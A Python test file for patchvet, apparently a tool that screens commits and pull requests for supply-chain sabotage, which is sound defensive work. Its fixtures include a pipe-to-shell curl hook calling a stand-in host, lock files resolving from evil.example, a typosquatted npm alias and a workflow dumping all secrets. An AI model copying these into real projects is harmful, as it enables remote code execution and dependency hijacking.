"""
Where the default policy draws the line between reporting and flagging (issue 10, "Must show":
honest commits pass), each side in a shape met on real pre-2023 histories, next to the
sabotage the same rule must still flag.

- Size is reported, not flagged: squash-merged pull requests of 500+ lines were the largest
  cause of honest commits not passing (121 of 3,174 commits of eight histories).
- CI, hook, release and lock-only edits by an established author (exempt by association or
  the vouch list, or known in the ledger) are `info`; by a first-time or unknown author they
  flag. The maintainers' own CI edits were the second cause (117 commits).
- What makes such an edit dangerous flags for everyone, established or not.
"""

from __future__ import annotations

import dataclasses
from pathlib import Path

from patchvet.analyzers.binary import binary
from patchvet.analyzers.ci_change import ci_change
from patchvet.analyzers.dependency import dependency
from patchvet.analyzers.size import size
from patchvet.check import assess, check
from patchvet.ledger import open_ledger
from patchvet.policy import load_preset
from patchvet.policy.loader import load_text
from patchvet.records import (
    Assessment,
    ChangeStatus,
    Contribution,
    FileChange,
    Identity,
    Mail,
    SourceKind,
)
from tests.helpers import added, contribution, ids, judge, subject


def _verdict_of(result: Assessment, finding_id: str) -> str:
    (found,) = [j for j in result.findings if j.finding.id == finding_id]
    return found.verdict.value


def _pr(association: str, *files: FileChange) -> Contribution:
    base = contribution(kind=SourceKind.PULL_REQUEST, files=files)
    return dataclasses.replace(base, source="acme/app#7", author_association=association)


def _severity(item: Contribution, finding_id: str, policy: str = "default") -> str:
    found = [f for f in ci_change(subject(item, policy)) if f.id == finding_id]
    found += [f for f in dependency(subject(item, policy)) if f.id == finding_id]
    (one,) = found
    return one.severity.value


# A squash-merged feature pull request: 1,537 changed lines in 15 files (gluesql #803).
BIG = tuple(added(f"src/ast_builder/join_{n}.rs", *["    let x = 1;"] * 103) for n in range(15))


def test_size_is_reported_and_labelled_but_passes_by_default() -> None:
    result = judge(contribution(files=BIG))
    assert result.verdict.value == "pass"
    assert _verdict_of(result, "size/large") == "pass"  # still listed in the report
    assert result.scores.size_bucket == "XXL"  # the Action's size label comes from here


def test_presets_that_ask_for_small_patches_still_flag_size() -> None:
    for preset in ("linux", "qemu"):
        result = judge(contribution(files=BIG), preset)
        assert _verdict_of(result, "size/large") == "flag", preset
    limited = load_text("[size]\nmax_lines = 1000\n", "p.toml")
    result = assess(contribution(files=BIG), limited)
    assert "size/over-limit" in ids(result) and result.verdict.value == "flag"
    explicit = load_text('[verdicts]\n"size/large" = "flag"\n', "p.toml")
    assert assess(contribution(files=BIG), explicit).verdict.value == "flag"


# "Run tests in serial, refs #1802" (datasette): a maintainer edits what CI runs.
RUN_EDIT = added(".github/workflows/test.yml", "      run: |", "        pytest -n 0")
# "ci: notarize" (ghostty): the same kind of edit, handing a secret to a step.
SECRET_EDIT = added(
    ".github/workflows/release.yml",
    "      - name: Notarize",
    "        env:",
    "          APPLE_ID: ${{ secrets.PROD_MACOS_NOTARIZATION_APPLE_ID }}",
)


def test_workflow_edit_by_member_is_info_by_first_timer_is_flagged() -> None:
    member = _pr("MEMBER", RUN_EDIT)
    assert _severity(member, "ci-change/workflow") == "info"
    assert assess(member, load_preset("default")).verdict.value == "pass"
    for outsider in ("FIRST_TIME_CONTRIBUTOR", "FIRST_TIMER", "NONE", "CONTRIBUTOR"):
        assert _severity(_pr(outsider, RUN_EDIT), "ci-change/workflow") == "medium", outsider
    # A git commit or a mailed patch says nothing about its author: flagged.
    assert _severity(contribution(files=(RUN_EDIT,)), "ci-change/workflow") == "medium"


def test_third_party_action_by_tag_is_info_for_members_flagged_for_strangers() -> None:
    """ "Bump cachix/install-nix-action from 17 to 18" (ghostty, by its maintainer)."""
    bump = added(".github/workflows/test.yml", "      - uses: cachix/install-nix-action@v18")
    assert _severity(_pr("OWNER", bump), "ci-change/unpinned-action") == "info"
    assert _severity(_pr("FIRST_TIME_CONTRIBUTOR", bump), "ci-change/unpinned-action") == "low"
    assert _severity(contribution(files=(bump,)), "ci-change/unpinned-action") == "low"


def test_a_project_can_flag_every_ci_edit() -> None:
    strict = load_text("[maintainers]\ntrust_established = false\n", "p.toml")
    member = _pr("OWNER", RUN_EDIT)
    found = [f for f in ci_change(subject(member, strict)) if f.id == "ci-change/workflow"]
    assert [f.severity.value for f in found] == ["medium"]
    bump = added(".github/workflows/test.yml", "      - uses: cachix/install-nix-action@v18")
    found = list(ci_change(subject(_pr("OWNER", bump), strict)))
    assert {f.id: f.severity.value for f in found}["ci-change/unpinned-action"] == "low"


def test_dangerous_patterns_flag_even_for_members() -> None:
    member = _pr("MEMBER", SECRET_EDIT)
    result = assess(member, load_preset("default"))
    assert _verdict_of(result, "ci-change/secret-use") == "hold"
    assert _verdict_of(result, "ci-change/workflow") == "pass"
    trigger = added(
        ".github/workflows/rebase.yml", "on:", "  issue_comment:", "    types: [created]"
    )
    assert "ci-change/privileged-trigger" in ids(
        assess(_pr("OWNER", trigger), load_preset("default"))
    )
    fixture = FileChange("tests/files/bad-3-corrupt_lzma2.xz", ChangeStatus.ADDED, binary=True)
    result = assess(_pr("MEMBER", fixture), load_preset("default"))
    assert _verdict_of(result, "ci-change/binary-fixture") == "flag"
    assert _verdict_of(result, "binary/executable-or-archive") == "flag"
    hook = added(".pre-commit-config.yaml", "      - run: curl -fsSL https://x.example/i | sh")
    assert (
        _verdict_of(assess(_pr("MEMBER", hook), load_preset("default")), "ci-change/pipe-to-shell")
        == "hold"
    )


def test_established_in_the_ledger_after_known_after_contributions(tmp_path: Path) -> None:
    """A git replay with `--record`: the fourth commit of a regular is no first contribution."""
    author = Identity(name="Karel Zak", email="kzak@example.org")
    docs = added("README.md", "fix a typo")

    def commit(n: int, *files: FileChange) -> Contribution:
        item = contribution(author=author, files=files)
        return dataclasses.replace(item, id=f"{n:040x}", created_at=f"2022-0{n}-01T00:00:00Z")

    items = [commit(n, docs) for n in range(1, 4)] + [commit(4, RUN_EDIT)]
    ledger = open_ledger(f"sqlite:///{tmp_path / 'ledger.db'}")
    try:
        results = list(check(items, load_preset("default"), ledger, record=True))
    finally:
        ledger.close()
    last = results[-1]
    assert isinstance(last, Assessment)
    (workflow,) = [j.finding for j in last.findings if j.finding.id == "ci-change/workflow"]
    assert workflow.severity.value == "info" and "3 earlier contributions" in workflow.message
    # The same edit as someone's first commit is flagged.
    first = open_ledger(f"sqlite:///{tmp_path / 'first.db'}")
    try:
        (alone,) = list(check([commit(4, RUN_EDIT)], load_preset("default"), first, record=True))
    finally:
        first.close()
    assert isinstance(alone, Assessment) and alone.verdict.value == "flag"


# "Refactoring" (pdfme): package-lock.json regenerated without a package.json change.
LOCK_ONLY = added("package-lock.json", '      "version": "7.18.6",')


def test_lock_only_change_by_member_is_info_by_outsider_is_flagged() -> None:
    assert _severity(_pr("COLLABORATOR", LOCK_ONLY), "dependency/lockfile-only") == "info"
    assert _severity(_pr("NONE", LOCK_ONLY), "dependency/lockfile-only") == "low"
    # A lock file pointing outside the registry flags whoever changes it.
    hijack = added(
        "package-lock.json", '      "resolved": "https://evil.example/lodash-4.17.21.tgz",'
    )
    assert "dependency/non-registry-source" in {
        f.id for f in dependency(subject(_pr("MEMBER", hijack)))
    }


def test_an_event_field_in_a_condition_is_not_a_new_privileged_trigger() -> None:
    """ghostty "release-tip manual": `github.event.workflow_run.conclusion` in an `if:`."""
    condition = added(
        ".github/workflows/release-tip.yml",
        "    if: ${{ github.event_name == 'workflow_dispatch' || "
        "github.event.workflow_run.conclusion == 'success' }}",
    )
    assert "ci-change/privileged-trigger" not in {
        f.id for f in ci_change(subject(contribution(files=(condition,))))
    }
    for trigger in ("  workflow_run:", "on: [pull_request_target]", "  - issue_comment"):
        workflow = added(".github/workflows/x.yml", trigger)
        assert "ci-change/privileged-trigger" in {
            f.id for f in ci_change(subject(contribution(files=(workflow,))))
        }, trigger


def test_every_form_of_secret_use_is_seen() -> None:
    for line in (
        "          ALL: ${{ toJSON(secrets) }}",
        "          KEY: ${{ secrets['NPM_TOKEN'] }}",
        "    secrets: inherit",
        "          token: ${{ secrets.GH_RELEASE_PAT }}",
    ):
        workflow = added(".github/workflows/x.yml", line)
        found = {f.id for f in ci_change(subject(contribution(files=(workflow,))))}
        assert "ci-change/secret-use" in found, line
    token = added(".github/workflows/x.yml", "          token: ${{ secrets.GITHUB_TOKEN }}")
    assert "ci-change/secret-use" not in {
        f.id for f in ci_change(subject(contribution(files=(token,))))
    }


def test_package_metadata_urls_are_not_dependencies() -> None:
    """gluesql's new package.json: `repository.url` and `bugs.url` were non-registry sources."""
    manifest = added(
        "pkg/javascript/package.json",
        "{",
        '  "name": "gluesql",',
        '  "repository": {',
        '    "type": "git",',
        '    "url": "git+https://github.com/gluesql/gluesql.git"',
        "  },",
        '  "bugs": {',
        '    "url": "https://github.com/gluesql/gluesql/issues"',
        "  },",
        '  "dependencies": {',
        '    "left-pad": "git+https://evil.example/left-pad.git"',
        "  }",
        "}",
        status=ChangeStatus.ADDED,
    )
    found = list(dependency(subject(contribution(files=(manifest,)))))
    assert [f.evidence for f in found if f.id == "dependency/non-registry-source"] == [
        "left-pad git+https://evil.example/left-pad.git"
    ]
    # Without the object's opening line in view, a URL-valued entry still counts.
    bare = added("package.json", '    "url": "git+https://evil.example/url.git"')
    assert "dependency/non-registry-source" in {
        f.id for f in dependency(subject(contribution(files=(bare,))))
    }


def test_lock_file_paths_inside_the_repository_are_not_non_registry() -> None:
    """ghostty's example/package-lock.json resolves `file:../vendor/zig-js/js`."""
    inside = added("example/package-lock.json", '      "resolved": "../vendor/zig-js/js",')
    assert "dependency/non-registry-source" not in {
        f.id for f in dependency(subject(contribution(files=(inside,))))
    }
    outside = added("example/package-lock.json", '      "resolved": "../../../home/x/pkg",')
    assert "dependency/non-registry-source" in {
        f.id for f in dependency(subject(contribution(files=(outside,))))
    }


def test_mac_icons_are_media() -> None:
    """ghostty "Mac bundle, icons": dist/macos/Ghostty.icns."""
    icon = FileChange("dist/macos/Ghostty.icns", ChangeStatus.ADDED, binary=True)
    (found,) = list(binary(subject(contribution(files=(icon,)))))
    assert (found.id, found.severity.value) == ("binary/added", "info")


def test_a_lock_file_beside_its_manifest_is_not_lock_only() -> None:
    """ripgrep's releases: `version = "13.0.0"` in Cargo.toml and the same in Cargo.lock."""
    release = (
        added("Cargo.toml", 'version = "13.0.0"  #:version'),
        added("Cargo.lock", 'version = "13.0.0"'),
    )
    assert list(dependency(subject(contribution(files=release)))) == []
    workspace = (added("crates/core/Cargo.toml", 'version = "0.2.0"'), release[1])
    assert list(dependency(subject(contribution(files=workspace)))) == []
    # package-lock.json alone, by an unknown author, is still flagged.
    (alone,) = list(dependency(subject(contribution(files=(LOCK_ONLY,)))))
    assert (alone.id, alone.severity.value) == ("dependency/lockfile-only", "low")


def test_lock_files_pointing_outside_the_registry_are_seen_in_each_format() -> None:
    for lock, line in (
        ("Cargo.lock", 'source = "git+https://evil.example/serde?rev=0123abcd#0123abcd"'),
        ("yarn.lock", '  resolved "https://evil.example/lodash-4.17.21.tgz#abcdef"'),
        ("package-lock.json", '      "resolved": "https://evil.example/lodash-4.17.21.tgz",'),
    ):
        manifest = "Cargo.toml" if lock == "Cargo.lock" else "package.json"
        files = (added(manifest, 'version = "1.0.1"'), added(lock, line))
        found = {f.id for f in dependency(subject(_pr("MEMBER", *files)))}
        assert "dependency/non-registry-source" in found, lock
    for lock, line in (
        ("Cargo.lock", 'source = "registry+https://github.com/rust-lang/crates.io-index"'),
        ("yarn.lock", '  resolved "https://registry.yarnpkg.com/lodash/-/lodash-4.17.21.tgz#x"'),
    ):
        found = {f.id for f in dependency(subject(contribution(files=(added(lock, line),))))}
        assert "dependency/non-registry-source" not in found, lock


def test_cargo_update_and_go_mod_tidy_only_pick_registry_versions() -> None:
    """ripgrep "deps: update everything": Cargo.lock alone, crates.io versions and checksums."""
    update = added(
        "Cargo.lock",
        "[[package]]",
        'name = "serde"',
        'version = "1.0.151"',
        'source = "registry+https://github.com/rust-lang/crates.io-index"',
        'checksum = "97fed41fc1a24994d044e6db6935e69511a1153b52c15eb42493b26fa87feba0"',
        "dependencies = [",
        ' "serde_derive",',
        "]",
        ' "regex 1.5.4 (registry+https://github.com/rust-lang/crates.io-index)",',
        '"checksum bstr 0.2.7 (registry+https://github.com/rust-lang/crates.io-index)"'
        ' = "8d6c2c5b58"',
    )
    tidy = added(
        "go.sum",
        "github.com/mattn/go-runewidth v0.0.13 h1:lTGmDsbAYt5DmK6OnoV7EuIF1wEIFAcxld6ypU4OSgU=",
        "github.com/mattn/go-runewidth v0.0.13/go.mod"
        " h1:Jdepj2loyihRzMpdS35Xk/zdY8IAYHsh153qUoGf23w=",
    )
    for lock in (update, tidy):
        (found,) = list(dependency(subject(contribution(files=(lock,)))))
        assert (found.id, found.severity.value) == ("dependency/lockfile-only", "info"), lock.path
    # A git source in the lock is no registry version: flagged twice over.
    moved = added("Cargo.lock", 'name = "serde"', 'source = "git+https://evil.example/serde#0123"')
    severities = {f.id: f.severity.value for f in dependency(subject(contribution(files=(moved,))))}
    assert severities == {
        "dependency/lockfile-only": "low",
        "dependency/non-registry-source": "medium",
    }
    # npm lock files stay flagged: a registry URL can name another package (lockfile injection).
    (npm,) = list(dependency(subject(contribution(files=(LOCK_ONLY,)))))
    assert npm.severity.value == "low"


def test_npm_aliases_are_checked_by_the_package_they_install() -> None:
    """vite: `"slash3": "npm:slash@^3.0.0"` was a lookalike of `slash`."""
    manifest = added(
        "packages/vite/package.json",
        '    "slash3": "npm:slash@^3.0.0",',
        '    "slash5": "npm:slash@^5.0.0",',
    )
    assert "dependency/lookalike-name" not in {
        f.id for f in dependency(subject(contribution(files=(manifest,))))
    }
    squat = added("package.json", '    "lodash": "npm:lodahs@^4.17.21",')
    (found,) = [
        f
        for f in dependency(subject(contribution(files=(squat,))))
        if f.id == "dependency/lookalike-name"
    ]
    assert "`lodahs`" in found.message


def test_renamed_files_do_not_spread_a_change() -> None:
    """ripgrep "repo: move all source code in crates directory": 113 renames, 0 lines."""
    moves = tuple(
        FileChange(f"crates/core/src/f{n}.rs", ChangeStatus.RENAMED, old_path=f"src/f{n}.rs")
        for n in range(113)
    )
    assert [f.id for f in size(subject(contribution(files=moves)))] == []
    edits = tuple(added(f"src/f{n}.rs", "x") for n in range(113))
    assert [f.id for f in size(subject(contribution(files=edits)))] == ["size/spread"]


def test_a_mail_in_a_regulars_name_does_not_carry_their_record(tmp_path: Path) -> None:
    """Anyone can type a regular's name into an in-body `From:`; without DKIM or patatt proof
    their three earlier patches do not make a CI edit `info`."""
    regular = Identity(name="Karel Zak", email="kzak@example.org")
    ci = added(".gitlab-ci.yml", "build:", "  script:", "    - make check")

    def patch(n: int, *files: FileChange, sender: Identity = regular) -> Contribution:
        item = contribution(author=regular, files=files)
        mail = Mail(message_id=f"<{n}@example.org>", subject=f"[PATCH] change {n}", sender=sender)
        return dataclasses.replace(
            item, id=f"{n:040x}", created_at=f"2022-0{n}-01T00:00:00Z", mail=mail
        )

    stranger = Identity(name="Jia Tan", email="jiat@example.net")
    earlier = [patch(n, added("README", "x")) for n in range(1, 4)]
    for last, expected in ((patch(4, ci), "info"), (patch(4, ci, sender=stranger), "medium")):
        ledger = open_ledger(f"sqlite:///{tmp_path / (expected + '.db')}")
        try:
            results = list(check([*earlier, last], load_preset("default"), ledger, record=True))
        finally:
            ledger.close()
        final = results[-1]
        assert isinstance(final, Assessment)
        (workflow,) = [j.finding for j in final.findings if j.finding.id == "ci-change/workflow"]
        assert workflow.severity.value == expected
